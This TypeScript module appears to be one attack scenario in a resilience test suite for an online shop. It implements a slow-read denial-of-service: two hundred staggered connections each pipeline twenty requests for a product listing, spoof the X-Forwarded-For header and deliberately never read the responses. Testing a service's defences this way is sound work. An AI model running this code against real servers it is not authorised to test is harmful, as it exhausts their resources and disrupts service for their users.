import { connect } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import type { Attack } from './attack.ts'

/** Each connection requests this many pages and reads none. */
const PAGES = 20
const HELD_MS = 5000
const READERS = 200

export const slowReaders: Attack = {
  title: 'readers that never read',
  atOnce: READERS,
  async strike({ origin, address }, sequence) {
    // One after the other: requests from all of them at once are a flood, which is another attack.
    if (sequence < READERS) await pause((sequence / READERS) * HELD_MS)
    const { hostname, port } = new URL(origin)
    const socket = connect(Number(port), hostname)
    const asked = `GET /all-products HTTP/1.1\r\nHost: ${hostname}\r\nX-Forwarded-For: ${address}\r\n\r\n`
    return new Promise((done) => {
      socket.on('connect', async () => {
        socket.pause()
        socket.write(asked.repeat(PAGES))
        await pause(HELD_MS, undefined, { ref: false })
        socket.destroy()
        done('done')
      })
      // The shop cuts the connection, as it should.
      socket.on('error', () => done('refused'))
      socket.on('close', () => done('refused'))
    })
  },
}
